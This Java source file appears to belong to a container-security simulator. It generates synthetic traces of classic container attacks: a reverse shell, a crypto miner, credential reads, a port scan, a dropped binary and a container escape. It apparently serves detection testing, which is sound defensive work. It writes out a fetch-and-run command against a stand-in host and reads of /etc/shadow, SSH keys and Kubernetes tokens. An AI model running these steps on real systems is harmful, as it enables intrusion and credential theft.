package io.habitus.sim;

/** The well-known container attacks, performed from a workload's foothold. */
final class ClassicAttacks {

    private ClassicAttacks() {}

    private static String attacker(ContainerRun run) {
        return "185.220." + run.random().nextInt(255) + "." + (1 + run.random().nextInt(254));
    }

    static void reverseShell(Workload workload) {
        ContainerRun run = workload.run();
        int bash = run.spawn(workload.foothold(), "/bin/bash", 0, "bash", "-i");
        run.connect(bash, 4444, attacker(run));
        run.syscall(bash, "dup2");
        int id = run.spawn(bash, "/usr/bin/id", 0, "id");
        run.exit(id);
        run.read(bash, "/etc/passwd");
    }

    static void cryptoMiner(Workload workload) {
        ContainerRun run = workload.run();
        int sh = run.spawn(workload.foothold(), "/bin/sh", 0, "sh", "-c", "curl -s http://x/kdevtmpfsi -o /tmp/kdevtmpfsi; /tmp/kdevtmpfsi");
        int curl = run.spawn(sh, "/usr/bin/curl", 0, "curl", "-s", "-o", "/tmp/kdevtmpfsi");
        run.connect(curl, 80, attacker(run));
        run.write(curl, "/tmp/kdevtmpfsi");
        run.exit(curl);
        int miner = run.spawn(sh, "/tmp/kdevtmpfsi", 0, "kdevtmpfsi");
        run.read(miner, "/proc/cpuinfo");
        run.read(miner, "/sys/devices/system/cpu/online");
        run.connect(miner, 3333, attacker(run));
    }

    static void credentialRead(Workload workload) {
        ContainerRun run = workload.run();
        int pid = workload.foothold();
        run.read(pid, "/etc/shadow");
        run.read(pid, "/root/.ssh/id_rsa");
        run.read(pid, "/var/run/secrets/kubernetes.io/serviceaccount/token");
        run.connect(pid, 443, "10.96.0.1");
    }

    static void packageManager(Workload workload) {
        ContainerRun run = workload.run();
        int sh = run.spawn(workload.foothold(), "/bin/sh", 0, "sh", "-c", "apt-get update && apt-get install -y nmap");
        int apt = run.spawn(sh, "/usr/bin/apt-get", 0, "apt-get", "install", "-y", "nmap");
        run.read(apt, "/etc/apt/sources.list.d/debian.sources");
        run.connect(apt, 80, "151.101." + run.random().nextInt(255) + ".132");
        run.write(apt, "/var/cache/apt/archives/nmap_7.93+dfsg1-1_amd64.deb");
        int dpkg = run.spawn(apt, "/usr/bin/dpkg", 0, "dpkg", "-i", "nmap.deb");
        run.write(dpkg, "/var/lib/dpkg/status");
        run.write(dpkg, "/usr/bin/nmap");
        run.exit(dpkg);
        run.exit(apt);
    }

    static void lateralScan(Workload workload) {
        ContainerRun run = workload.run();
        int pid = workload.foothold();
        int[] ports = {22, 10250, 2379, 2375, 3306, 6379, 27017, 9200};
        for (int i = 0; i < 3; i++) {
            String host = "10.244." + run.random().nextInt(8) + "." + (2 + run.random().nextInt(250));
            for (int port : ports) {
                run.connect(pid, port, host);
            }
        }
    }

    static void droppedBinary(Workload workload) {
        ContainerRun run = workload.run();
        int pid = workload.foothold();
        String path = "/dev/shm/.x" + run.hex(6);
        run.write(pid, path);
        run.syscall(pid, "chmod");
        int dropped = run.spawn(pid, path, 0, ".x");
        run.connect(dropped, 8443, attacker(run));
        run.read(dropped, "/etc/hosts");
    }

    static void containerEscape(Workload workload) {
        ContainerRun run = workload.run();
        int sh = run.spawn(workload.foothold(), "/bin/sh", 0, "sh");
        run.syscall(sh, "unshare");
        run.syscall(sh, "mount");
        run.syscall(sh, "ptrace");
        run.read(sh, "/proc/1/root/etc/shadow");
        run.syscall(sh, "setns");
    }
}
